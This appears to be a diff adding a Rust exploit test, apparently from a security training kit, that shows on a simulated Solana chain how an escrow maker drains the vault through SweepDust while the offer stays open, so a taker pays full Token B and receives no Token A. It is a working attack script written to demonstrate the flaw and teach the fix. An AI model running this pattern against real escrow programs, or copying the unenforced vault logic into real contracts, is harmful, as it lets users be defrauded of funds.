@@ -0,0 +1,154 @@
+// Exploit: Short Vault Take (Vault Balance Clamped, Not Enforced)
+//
+// Vulnerability: TakeOffer sends the taker min(vault, token_a_offered_amount), and
+// SweepDust lets the maker pull the whole vault balance instead of only the residue.
+// Attack: Maker lists an offer, sweeps the vault empty and leaves the offer open.
+// Result: The taker pays the full Token B price and receives no Token A.
+//
+// The offer account still shows 100 Token A on offer, so nothing a taker reads
+// before sending TakeOffer reveals that the vault is empty.
+
+mod utils;
+
+use utils::*;
+
+use litesvm::types::TransactionResult;
+use litesvm_token::{
+    spl_token::state::Account as TokenAccount,
+    get_spl_account,
+};
+use solana_sdk::{
+    instruction::{AccountMeta, Instruction},
+    signature::Signer,
+    transaction::Transaction,
+};
+use soteria_test_kit::{run_exploit, ExploitInfo, ExploitScenario, Severity};
+use spl_associated_token_account::get_associated_token_address;
+use solana_system_interface::program::ID as SYSTEM_PROGRAM_ID;
+
+struct ShortVaultTake;
+
+impl ExploitScenario for ShortVaultTake {
+    type State = EscrowScenario;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V007",
+            title: "Short Vault Take - Vault Balance Clamped, Not Enforced",
+            severity: Severity::High,
+            lesson: "Deliver exactly token_a_offered_amount or reject, and sweep only the residue",
+        }
+    }
+
+    fn setup(&self) -> EscrowScenario {
+        println!("[Scenario] Maker empties the vault, taker fills the offer anyway");
+
+        let mut scenario = setup_escrow_scenario();
+
+        create_offer(
+            &mut scenario.svm,
+            &scenario.proposer,
+            &scenario.mint_a,
+            &scenario.mint_b,
+            &scenario.proposer_ata_a,
+            &scenario.offer_pda,
+            &scenario.vault_ata,
+            scenario.offer_id,
+            scenario.bump,
+        );
+
+        let vault_balance: TokenAccount = get_spl_account(&scenario.svm, &scenario.vault_ata)
+            .expect("Vault should exist");
+        println!("[Setup] Offer created, vault Token A balance: {}", vault_balance.amount);
+        scenario
+    }
+
+    fn exploit(&self, scenario: &mut EscrowScenario) -> TransactionResult {
+        // Step 1: the maker sweeps the whole vault, not just a residue
+        let sweep_ix = Instruction {
+            program_id: PROGRAM_ID,
+            accounts: vec![
+                AccountMeta::new_readonly(scenario.proposer.pubkey(), true),
+                AccountMeta::new_readonly(scenario.mint_a, false),
+                AccountMeta::new(scenario.proposer_ata_a, false),
+                AccountMeta::new_readonly(scenario.offer_pda, false),
+                AccountMeta::new(scenario.vault_ata, false),
+                AccountMeta::new_readonly(TOKEN_PROGRAM_ID, false),
+            ],
+            data: build_sweep_dust_data(),
+        };
+
+        let tx = Transaction::new_signed_with_payer(
+            &[sweep_ix],
+            Some(&scenario.proposer.pubkey()),
+            &[&scenario.proposer],
+            scenario.svm.latest_blockhash(),
+        );
+        scenario.svm.send_transaction(tx).expect("SweepDust should drain the vault");
+
+        let vault_balance: TokenAccount = get_spl_account(&scenario.svm, &scenario.vault_ata)
+            .expect("Vault should still exist");
+        println!("[Attack] Maker swept the vault down to {} Token A, offer still open", vault_balance.amount);
+
+        // Step 2: an honest taker fills the offer at its listed terms
+        let proposer_ata_b = get_associated_token_address(&scenario.proposer.pubkey(), &scenario.mint_b);
+
+        let take_ix = Instruction {
+            program_id: PROGRAM_ID,
+            accounts: vec![
+                AccountMeta::new(scenario.taker.pubkey(), true),
+                AccountMeta::new(scenario.proposer.pubkey(), false),
+                AccountMeta::new(proposer_ata_b, false),
+                AccountMeta::new_readonly(scenario.mint_b, false),
+                AccountMeta::new_readonly(scenario.mint_a, false),
+                AccountMeta::new(scenario.taker_ata_a, false),
+                AccountMeta::new(scenario.taker_ata_b, false),
+                AccountMeta::new(scenario.offer_pda, false),
+                AccountMeta::new(scenario.vault_ata, false),
+                AccountMeta::new_readonly(TOKEN_PROGRAM_ID, false),
+                AccountMeta::new_readonly(SYSTEM_PROGRAM_ID, false),
+                AccountMeta::new_readonly(ASSOCIATED_TOKEN_PROGRAM_ID, false),
+            ],
+            data: build_take_offer_data(),
+        };
+
+        let tx = Transaction::new_signed_with_payer(
+            &[take_ix],
+            Some(&scenario.taker.pubkey()),
+            &[&scenario.taker],
+            scenario.svm.latest_blockhash(),
+        );
+
+        println!("[Attack] Taker sends TakeOffer against the empty vault...");
+        scenario.svm.send_transaction(tx)
+    }
+
+    fn assert_impact(&self, scenario: &mut EscrowScenario) -> u64 {
+        println!("[VULNERABLE] Transaction accepted by escrow program!");
+
+        let taker_a_after: TokenAccount = get_spl_account(&scenario.svm, &scenario.taker_ata_a)
+            .expect("Taker ATA A should exist");
+        let taker_b_after: TokenAccount = get_spl_account(&scenario.svm, &scenario.taker_ata_b)
+            .expect("Taker ATA B should exist");
+        assert_eq!(taker_a_after.amount, 0);
+        assert_eq!(taker_b_after.amount, INITIAL_MINT_AMOUNT - TOKEN_B_WANTED_AMOUNT);
+        println!(
+            "[Result] Taker paid {} Token B and received {} Token A",
+            TOKEN_B_WANTED_AMOUNT,
+            taker_a_after.amount
+        );
+
+        let proposer_a_after: TokenAccount = get_spl_account(&scenario.svm, &scenario.proposer_ata_a)
+            .expect("Proposer ATA A should exist");
+        assert_eq!(proposer_a_after.amount, INITIAL_MINT_AMOUNT);
+        println!("[Result] Maker kept all {} Token A and collected the payment", proposer_a_after.amount);
+
+        println!("[EXPLOIT SUCCESS] Offer settled with nothing behind it!");
+        TOKEN_B_WANTED_AMOUNT
+    }
+}
+
+#[test]
+fn test_exploit_short_vault_take() {
+    run_exploit(&ShortVaultTake);
+}